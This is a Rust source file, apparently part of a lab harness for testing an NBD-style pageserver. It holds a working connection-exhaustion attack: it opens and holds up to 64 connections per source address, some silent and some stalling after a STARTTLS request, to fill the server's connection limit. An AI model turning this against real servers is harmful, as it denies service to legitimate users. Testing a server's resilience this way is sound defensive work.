//! `silent_clients SERVER FROM...`: takes all connections that a server allows, and sends
//! nothing.
//!
//! From each address it keeps as many connections as it gets. Of two, one sends nothing at all;
//! the other begins TLS and then stops.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use pageserver::nbd::wire::{IHAVEOPT, option};
use rustix::net::{AddressFamily, SocketType, bind, connect, socket};

use super::has_gone;
use crate::lab::LabError;

/// Connections wanted from each address; they once filled a server that allows 256.
const WANTED: usize = 64;
/// Pause between two tries.
const REST: Duration = Duration::from_millis(200);

pub(super) fn attack(args: &[String]) -> Result<(), LabError> {
    let [server, from @ ..] = args else {
        return Err(io::Error::other("silent_clients takes an address and port").into());
    };
    let server: SocketAddr = server.parse().map_err(io::Error::other)?;
    let from: Result<Vec<SocketAddr>, _> =
        from.iter().map(|ip| format!("{ip}:0").parse()).collect();
    let from = from.map_err(io::Error::other)?;
    let mut held: Vec<Vec<TcpStream>> = from.iter().map(|_| Vec::new()).collect();
    let mut tried = 0;
    loop {
        for (from, held) in from.iter().zip(&mut held) {
            while held.len() < WANTED {
                let Ok(stream) = one(server, *from, tried % 2 == 0) else { break };
                held.push(stream);
                tried += 1;
            }
        }
        std::thread::sleep(REST);
        held.iter_mut().for_each(|held| held.retain(|stream| !has_gone(stream)));
        let open: usize = held.iter().map(Vec::len).sum();
        println!("saw: {open} of {tried} connections are open from {} addresses", from.len());
    }
}

fn one(server: SocketAddr, from: SocketAddr, is_mute: bool) -> io::Result<TcpStream> {
    let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    bind(&socket, &from)?;
    connect(&socket, &server)?;
    let mut stream = TcpStream::from(socket);
    if !is_mute {
        let mut says = 1_u32.to_be_bytes().to_vec();
        says.extend_from_slice(&IHAVEOPT.to_be_bytes());
        says.extend_from_slice(&option::STARTTLS.to_be_bytes());
        says.extend_from_slice(&0_u32.to_be_bytes());
        stream.write_all(&says)?;
    }
    Ok(stream)
}
